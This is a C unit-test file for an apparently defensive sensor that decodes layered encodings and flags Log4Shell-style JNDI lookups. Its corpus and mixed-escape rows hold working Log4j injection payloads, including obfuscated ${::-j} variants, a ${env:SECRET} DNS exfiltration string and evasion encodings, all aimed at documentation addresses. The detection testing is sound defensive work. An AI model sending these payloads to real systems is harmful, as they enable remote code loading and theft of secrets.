/* Tests of peeling in bulk: every text of a corpus, wrapped in every encoding and in every ordered
 * pair of encodings, comes to what it comes to unwrapped; the gate has a pattern in each, and a
 * glance at what it hit passes it; and whether the cheap checks are asked or not makes no
 * difference. */
#include "sensor/codec/utf.h"
#include "signatures/peel.h"
#include "tests/gating/gating.h"
#include "tests/unit/encode.h"
#include "tests/unit/runner.h"

#include <stdio.h>

enum { CAP = 1 << 20, TOLD_MAX = 20 };

static const struct span corpus[] = {
    SPAN_LITERAL("${jndi:ldap://203.0.113.9:1389/a}"),
    SPAN_LITERAL("x ${${::-j}${::-n}${::-d}${::-i}:${lower:RMI}://203.0.113.9/a b} y"),
    SPAN_LITERAL("${${env:A:-j}ndi${sys:path.separator}dns://${env:SECRET}.example/${hostName}}"),
    SPAN_LITERAL("${jnd${upper:\xc4\xb1}:ldaps://203.0.113.9/\xc3\xa4}"),
    SPAN_LITERAL("$${jndi:ldap://203.0.113.9/escaped} ${z}"),
    SPAN_LITERAL("${::-x$}{jndi:ldap://203.0.113.9/produced}"),
    SPAN_LITERAL("{\"user\":\"${jndi:ldap://203.0.113.9/?a=1&b=%41+\\\"#<>}\"}"),
    SPAN_LITERAL("${lower:${upper:${lower:${date:'j'}}}ndi:x} ${JnDi:ldap://[2001:db8::1]:99/}"),
    SPAN_LITERAL("${jndi:ldap://203.0.113.9/unclosed"),
    SPAN_LITERAL("p${jndi:ldap://203.0.113.9/behind-one}"),
    SPAN_LITERAL("x=${jndi:ldap://203.0.113.9/behind-two}"),
    SPAN_LITERAL("${ jndi:ldap://203.0.113.9/attempt}"),
    SPAN_LITERAL("#{jndi:ldap://203.0.113.9/attempt}"),
    SPAN_LITERAL(
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa "
        "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb "
        "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc "
        "${${x:-j}${y:-n}${zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz:-d}i:a:b} "
        "dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd"),
};

static const struct span harmless[] = {
    SPAN_LITERAL("The price is ${amount}, ${user.name:-friend}; see #{order} or $(date)."),
    SPAN_LITERAL("{\"a\":[1,2,3],\"b\":\"caf\xc3\xa9\",\"c\":\"a=b&c=d%20e\"}"),
    SPAN_LITERAL("jndi: the directory interface, ldap://directory.example/ in ${place}"),
};

static struct peeler *peeler;
static struct gating *gate;
static unsigned n_told;

static int start(void)
{
    peeler = peeler_new();
    gate = gating_new();
    return peeler == NULL || gate == NULL;
}

static int end(void)
{
    peeler_free(&peeler);
    gating_free(&gate);
    return 0;
}

/* Class and names as one text; encodings where `to` is not NULL. */
static enum lookup_class peel(struct span text, bool forced, struct sbuf *ret_names,
                              struct encodings *ret_encodings)
{
    struct peel_hints hints = {.forced = forced};
    struct peel_result result;
    enum lookup_class class = peel_and_evaluate(peeler, text, &hints, &result);
    sbuf_reset(ret_names);
    sbuf_add_str(ret_names, lookup_class_name(class));
    for (size_t i = 0; i < result.lookup.n_names; i++) {
        sbuf_add_byte(ret_names, '\n');
        sbuf_add(ret_names, result.lookup.names[i].text);
    }
    *ret_encodings = result.encodings;
    CU_ASSERT(result.raw_off <= text.len && result.raw_len <= text.len - result.raw_off);
    CU_ASSERT((class == LOOKUP_NONE) == (result.raw_len == 0));
    return class;
}

static void tell(const char *what, const char *outer, const char *inner, struct span text,
                 struct span got)
{
    if (n_told++ < TOLD_MAX) {
        printf("%s: %s of %s: %.*s\n  got %.*s\n", what, outer, inner,
               (int)(text.len < 200 ? text.len : 200), (const char *)text.data, (int)got.len,
               (const char *)got.data);
    }
}

static void check(struct span plain, struct span wrapped, const char *outer, const char *inner)
{
    struct sbuf expected = sbuf_with_cap(CAP);
    struct sbuf names = sbuf_with_cap(CAP);
    struct encodings encodings;
    struct encodings forced_encodings;
    (void)peel(plain, false, &expected, &encodings);
    (void)peel(wrapped, true, &names, &forced_encodings);
    bool right = span_equal(sbuf_span(&names), sbuf_span(&expected));
    if (!right) {
        tell("forced", outer, inner, wrapped, sbuf_span(&names));
    }
    CU_ASSERT(right);
    (void)peel(wrapped, false, &names, &encodings);
    bool same =
        span_equal(sbuf_span(&names), sbuf_span(&expected)) && encodings.n == forced_encodings.n;
    if (!same && right) {
        tell("gate", outer, inner, wrapped, sbuf_span(&names));
    }
    CU_ASSERT(same || !right);
    struct gating_answer g = gating_ask(gate, wrapped);
    if (!g.passed) {
        tell(g.hit ? "glance" : "no pattern", outer, inner, wrapped, sbuf_span(&names));
    }
    CU_ASSERT(g.passed);
    sbuf_free(&expected);
    sbuf_free(&names);
}

static void the_corpus_is_found_as_it_stands(void)
{
    for (size_t i = 0; i < ARRAY_LEN(corpus); i++) {
        struct sbuf names = sbuf_with_cap(CAP);
        struct encodings encodings;
        CU_ASSERT(peel(corpus[i], false, &names, &encodings) != LOOKUP_NONE);
        /* of JSON it is what stands in its strings */
        CU_ASSERT_EQUAL(encodings.n, span_starts(corpus[i], SPAN("{\"")) ? 1 : 0);
        check(corpus[i], corpus[i], "nothing", "nothing");
        sbuf_free(&names);
    }
}

static void every_encoding_is_undone(void)
{
    for (size_t i = 0; i < ARRAY_LEN(corpus); i++) {
        for (size_t e = 0; e < encoders_n(); e++) {
            struct sbuf wrapped = sbuf_with_cap(CAP);
            encoder_at(e)->encode(corpus[i], &wrapped);
            check(corpus[i], sbuf_span(&wrapped), encoder_at(e)->name, "nothing");
            sbuf_free(&wrapped);
        }
    }
}

/* Pairs that no reader could undo: characters made of bytes that were none (an overlong form can be
 * told all the same); and the characters of UTF-7 are those of base64. */
static bool makes_no_sense(const struct encoder *outer, const struct encoder *inner,
                           struct span once)
{
    if (outer->encoding == ENCODING_UTF7 &&
        (inner->encoding == ENCODING_BASE64 || inner->encoding == ENCODING_BASE64URL ||
         inner->encoding == ENCODING_GZIP || inner->encoding == ENCODING_RFC2047)) {
        return true;
    }
    return outer->of_characters && inner->encoding == ENCODING_UTF16 && !utf8_is_valid(once);
}

/* Base64 shows through the outer escapes, and what is unclosed in it is closed by the brace of one
 * behind it ("\u{3b}"). */
static bool is_closed_by_escapes(const struct encoder *outer, const struct encoder *inner,
                                 struct span plain)
{
    return span_equal(span_str(outer->name), SPAN("js code points")) &&
           (inner->encoding == ENCODING_BASE64 || inner->encoding == ENCODING_RFC2047) &&
           span_find_byte(plain, 0, '}') == SPAN_NONE;
}

static void every_ordered_pair_is_undone(void)
{
    for (size_t i = 0; i < ARRAY_LEN(corpus); i++) {
        for (size_t a = 0; a < encoders_n() * encoders_n(); a++) {
            const struct encoder *inner = encoder_at(a / encoders_n());
            const struct encoder *outer = encoder_at(a % encoders_n());
            struct sbuf once = sbuf_with_cap(CAP);
            struct sbuf twice = sbuf_with_cap(CAP);
            inner->encode(corpus[i], &once);
            outer->encode(sbuf_span(&once), &twice);
            if (!makes_no_sense(outer, inner, sbuf_span(&once)) &&
                !is_closed_by_escapes(outer, inner, corpus[i])) {
                check(corpus[i], sbuf_span(&twice), outer->name, inner->name);
            }
            sbuf_free(&once);
            sbuf_free(&twice);
        }
    }
}

static const struct encoder *encoder_of(const char *name)
{
    for (size_t e = 0; e < encoders_n(); e++) {
        if (span_equal(span_str(encoder_at(e)->name), span_str(name))) {
            return encoder_at(e);
        }
    }
    CU_FAIL_FATAL("no such encoder");
    return NULL;
}

static void check_chain(struct span plain, const struct encoder *innermost,
                        const char *const outer[3])
{
    struct sbuf text = sbuf_with_cap(CAP);
    innermost->encode(plain, &text);
    for (size_t i = 0; i < 3 && outer[i] != NULL; i++) {
        struct sbuf more = sbuf_with_cap(CAP);
        encoder_of(outer[i])->encode(sbuf_span(&text), &more);
        sbuf_free(&text);
        text = more;
    }
    check(plain, sbuf_span(&text), "base64 twice", innermost->name);
    sbuf_free(&text);
}

/* What is in base64 that is in base64 again, perhaps as UTF-16, needs no pattern of its own. */
static void every_encoding_is_seen_in_base64_of_base64(void)
{
    static const char *const chains[][3] = {
        {"base64", "base64", NULL},
        {"base64url", "base64", NULL},
        {"base64", "base64url", NULL},
        {"base64", "base64", "base64"},
        {"base64", "utf-16 le", "base64"},
        {"base64", "utf-16 be", "base64"},
        {"base64", "utf-16 le", "percent component"},
    };
    for (size_t e = 0; e < encoders_n(); e++) {
        for (size_t i = 0; i < ARRAY_LEN(chains); i++) {
            check_chain(corpus[0], encoder_at(e), chains[i]);
            check_chain(corpus[2], encoder_at(e), chains[i]);
        }
    }
}

/* Only some characters of each layer are escaped, so that no pattern for one layer is there. */
static void mixed_escapes_pass_the_gate(void)
{
    static const struct span plain = SPAN_LITERAL("${jndi:ldap://203.0.113.9/a}");
    static const struct span rows[] = {
        SPAN_LITERAL("=24&#x3d;7Bjndi:ldap://203.0.113.9/a&#x3d;7D"),
        SPAN_LITERAL("%3D3D24%3D3D7Bjndi:ldap://203.0.113.9/a%3D3D7D"),
        SPAN_LITERAL("%26amp%3B%26num%3Bx24%26semi%3B%26amp%3B%26num%3Bx7b%26semi%3B"
                     "jndi:ldap://203.0.113.9/a%26amp%3B%26num%3Bx7d%26semi%3B"),
        SPAN_LITERAL("&#37;u004aH&#37;u0074&#37;u0071bmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hfQ=="),
        SPAN_LITERAL("%5Cuu004AHt%5Cuu0071%5Cuu0062mRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hfQ=="),
        SPAN_LITERAL("+-ACQ-+-AHs-jndi:ldap://203.0.113.9/a+-AH0-"),
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        check(plain, rows[i], "mixed", "mixed");
    }
}

/* Whether a pair leaves one way only to read it: neither encoder leaves the text as it is, and the
 * outer one changes the openers of the inner one. */
static bool is_plain_pair(const struct encoder *outer, const struct encoder *inner)
{
    static const char *const all[] = {"percent component", "percent all",      "percent u",
                                      "html decimal",      "html hexadecimal", "json all",
                                      "js hexadecimal",    "base64",           "qp all",
                                      "words b",           "utf-16 le"};
    static const char *const kept[] = {"base64", "words b"}; /* these show through escapes */
    bool outer_known = false;
    bool inner_known = false;
    bool shows = false;
    for (size_t i = 0; i < ARRAY_LEN(all); i++) {
        outer_known = outer_known || span_equal(span_str(all[i]), span_str(outer->name));
        inner_known = inner_known || span_equal(span_str(all[i]), span_str(inner->name));
    }
    for (size_t i = 0; i < ARRAY_LEN(kept); i++) {
        shows = shows || span_equal(span_str(kept[i]), span_str(inner->name));
    }
    return outer_known && inner_known && !shows;
}

static void encodings_are_told_outermost_first(void)
{
    for (size_t a = 0; a < encoders_n() * encoders_n(); a++) {
        const struct encoder *inner = encoder_at(a / encoders_n());
        const struct encoder *outer = encoder_at(a % encoders_n());
        if (!is_plain_pair(outer, inner)) {
            continue;
        }
        struct sbuf once = sbuf_with_cap(CAP);
        struct sbuf twice = sbuf_with_cap(CAP);
        struct sbuf names = sbuf_with_cap(CAP);
        struct encodings encodings;
        inner->encode(corpus[0], &once);
        outer->encode(sbuf_span(&once), &twice);
        (void)peel(sbuf_span(&twice), false, &names, &encodings);
        bool right = encodings.n == 2 && encodings.ids[0] == outer->encoding &&
                     encodings.ids[1] == inner->encoding;
        if (!right) {
            sbuf_reset(&names);
            for (size_t i = 0; i < encodings.n; i++) {
                sbuf_add_format(&names, "%s ", encoding_name((enum encoding)encodings.ids[i]));
            }
            tell("encodings", outer->name, inner->name, sbuf_span(&twice), sbuf_span(&names));
        }
        CU_ASSERT(right);
        sbuf_free(&once);
        sbuf_free(&twice);
        sbuf_free(&names);
    }
}

static void harmless_texts_stay_harmless(void)
{
    for (size_t i = 0; i < ARRAY_LEN(harmless); i++) {
        for (size_t a = 0; a < encoders_n() * encoders_n(); a++) {
            struct sbuf once = sbuf_with_cap(CAP);
            struct sbuf twice = sbuf_with_cap(CAP);
            struct sbuf names = sbuf_with_cap(CAP);
            struct encodings encodings;
            encoder_at(a / encoders_n())->encode(harmless[i], &once);
            encoder_at(a % encoders_n())->encode(sbuf_span(&once), &twice);
            CU_ASSERT_EQUAL(peel(sbuf_span(&twice), false, &names, &encodings), LOOKUP_NONE);
            sbuf_free(&once);
            sbuf_free(&twice);
            sbuf_free(&names);
        }
    }
}

/* Whether an encoder escapes characters: others carry text only where control characters are few.
 */
static bool is_of_escapes(const struct encoder *e)
{
    return e->encoding == ENCODING_PERCENT || e->encoding == ENCODING_PERCENT_U ||
           e->encoding == ENCODING_HTML || e->encoding == ENCODING_JSON_UNICODE ||
           e->encoding == ENCODING_JS_ESCAPE || e->encoding == ENCODING_QUOTED_PRINTABLE;
}

static void check_late_word(struct span text, const char *opener)
{
    struct sbuf names = sbuf_with_cap(CAP);
    struct encodings encodings;
    CU_ASSERT_EQUAL(peel(text, false, &names, &encodings), LOOKUP_ATTEMPT);
    for (size_t e = 0; e < encoders_n(); e++) {
        struct sbuf once = sbuf_with_cap(CAP);
        struct sbuf twice = sbuf_with_cap(CAP);
        encoder_at(e)->encode(text, &once);
        encoder_at(0)->encode(sbuf_span(&once), &twice);
        if (is_of_escapes(encoder_at(e))) {
            check(text, sbuf_span(&once), encoder_at(e)->name, opener);
            check(text, sbuf_span(&twice), "percent", encoder_at(e)->name);
        }
        sbuf_free(&once);
        sbuf_free(&twice);
    }
    sbuf_free(&names);
}

/* What stands between the opener of an attempt and its word does not end it, in whichever number
 * and however it is escaped. */
static void the_word_of_an_attempt_may_come_late(void)
{
    static const char *const openers[] = {"#{", "%{", "$(", "${"};
    static const struct span fillers[] = {
        SPAN_LITERAL("\0"),       SPAN_LITERAL(" "),        SPAN_LITERAL("\t\r\n"),
        SPAN_LITERAL("\x01\x7f"), SPAN_LITERAL("\xc2\xa0"), SPAN_LITERAL("\xe2\x80\x8b"),
    };
    for (size_t i = 0; i < ARRAY_LEN(openers) * ARRAY_LEN(fillers); i++) {
        const char *opener = openers[i % ARRAY_LEN(openers)];
        struct sbuf text = sbuf_with_cap(CAP);
        sbuf_add_str(&text, opener);
        for (unsigned n = 0; n < 80; n++) {
            sbuf_add(&text, fillers[i / ARRAY_LEN(openers)]);
        }
        sbuf_add_str(&text, "jndi:x:y)}");
        check_late_word(sbuf_span(&text), opener);
        sbuf_free(&text);
    }
}

/* A glance begins a little before what hit, wherever that stands in the text. */
static void it_does_not_matter_how_far_in_a_look_up_stands(void)
{
    static const char *const fillers[] = {"x", "1, ", "{\"a\":0,", "\xc3\xa4 "};
    for (size_t i = 0; i < ARRAY_LEN(fillers) * encoders_n(); i++) {
        const struct encoder *e = encoder_at(i % encoders_n());
        const char *filler = fillers[i / encoders_n()];
        struct sbuf text = sbuf_with_cap(CAP);
        for (unsigned n = 0; n < 100; n++) {
            struct sbuf plain = sbuf_with_cap(CAP);
            struct sbuf wrapped = sbuf_with_cap(CAP);
            sbuf_add_str(&text, filler);
            sbuf_add(&plain, sbuf_span(&text));
            sbuf_add_str(&plain, "${jndi:ldap://203.0.113.9/a}");
            e->encode(sbuf_span(&plain), &wrapped);
            check(sbuf_span(&plain), sbuf_span(&wrapped), e->name, filler);
            sbuf_free(&plain);
            sbuf_free(&wrapped);
        }
        sbuf_free(&text);
    }
}

/* Characters of UTF-16 that are not ASCII belong to the text like the others: here they keep a name
 * from being asked for, or are a part of it. */
static void utf16_is_not_torn(void)
{
    static const struct {
        const char *text;
        const char *name;
    } rows[] = {
        {"${\xef\xac\x81r${jndi:x:y}", NULL},
        {"${\xc3\x9fr${jndi:x:y}", NULL},
        {"${\xc4\xb1r${jndi:x:y}", NULL},
        {"${\xf0\x9f\x98\x80r${jndi:x:y}", NULL},
        {"${jnd${upper:\xc4\xb1}:x:y}", "attack\nx:y"},
        {"${jndi:x:\xe4\xb8\xad}", "attack\nx:\xe4\xb8\xad"},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows) * encoders_n(); i++) {
        const struct encoder *e = encoder_at(i % encoders_n());
        const char *name = rows[i / encoders_n()].name;
        struct sbuf out = sbuf_with_cap(CAP);
        struct sbuf names = sbuf_with_cap(CAP);
        struct encodings encodings;
        e->encode(span_str(rows[i / encoders_n()].text), &out);
        if (e->encoding == ENCODING_UTF16) {
            bool attack = peel(sbuf_span(&out), false, &names, &encodings) == LOOKUP_ATTACK;
            CU_ASSERT_EQUAL(attack, name != NULL);
            CU_ASSERT(name == NULL || span_equal(sbuf_span(&names), span_str(name)));
        }
        sbuf_free(&out);
        sbuf_free(&names);
    }
}

static CU_TestInfo pair_tests[] = {
    {"the corpus is found as it stands", the_corpus_is_found_as_it_stands},
    {"every encoding is undone", every_encoding_is_undone},
    {"every encoding is seen in base64 of base64", every_encoding_is_seen_in_base64_of_base64},
    {"mixed escapes pass the gate", mixed_escapes_pass_the_gate},
    {"every ordered pair is undone", every_ordered_pair_is_undone},
    {"the word of an attempt may come late", the_word_of_an_attempt_may_come_late},
    {"it does not matter how far in a look-up stands",
     it_does_not_matter_how_far_in_a_look_up_stands},
    {"UTF-16 is not torn", utf16_is_not_torn},
    {"encodings are told outermost first", encodings_are_told_outermost_first},
    {"harmless texts stay harmless", harmless_texts_stay_harmless},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"pairs of encodings", start, end, NULL, NULL, pair_tests},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
